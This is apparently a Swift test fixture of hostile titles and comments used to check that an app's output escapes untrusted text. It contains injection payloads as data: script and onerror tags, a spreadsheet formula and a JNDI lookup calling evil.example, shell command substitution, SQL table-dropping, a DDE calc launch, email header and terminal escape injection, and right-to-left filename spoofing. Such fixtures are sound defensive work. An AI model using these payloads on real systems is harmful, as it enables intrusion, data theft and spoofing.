/// Titles nobody should trust: every output has to survive them.
enum HostileTexts {
  static let titles = [
    "<script>alert('daybook')</script><img src=x onerror=alert(1)>",
    "# Not a heading | **bold** | [click](javascript:alert(1)) `code` ![](http://tracker.example/p.png)",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")",
    "First line\nSubject: injected\r\n\r\n| a | table |\n|---|---|",
    "Colour \u{1b}[31mred\u{1b}[0m and title \u{1b}]0;owned\u{7} of the terminal",
    "Invoice \u{202e}fdp.exe\u{202c} is ready",
    "Pay\u{200b}ment \u{200d}fails\u{feff} invisibly\u{2060}",
    "Очень длинный заголовок: " + String(repeating: "заказ не оформляется ", count: 8) + "конец",
    "{{title}} {{{raw}}} {{#section}} %s %n $HOME $(id) `id` ${jndi:ldap://evil.example/a}",
    "'; DROP TABLE pilot_error_reports; -- \"quoted\" 'single' \\ backslash",
    "👩‍👩‍👧‍👦 семья не видит 🛒, e\u{301} combining, Z\u{351}\u{343}\u{36a}algo, ﷽",
    "Token ghp_0123456789abcdefghijklmnopqrstuvwxyz of anna.smirnova@example.com at 192.0.2.17",
  ]
  /// One that fills the column's 200 characters without a single place to break.
  static let unbreakable = String(repeating: "W", count: 200)

  static let comments = [
    "Спасибо! <b>Всё отлично</b> & быстро",
    "-- \nReply-To: someone@evil.example\n> quoted",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "كل شيء يعمل \u{202b}אבל לאט\u{202c}",
  ]
}
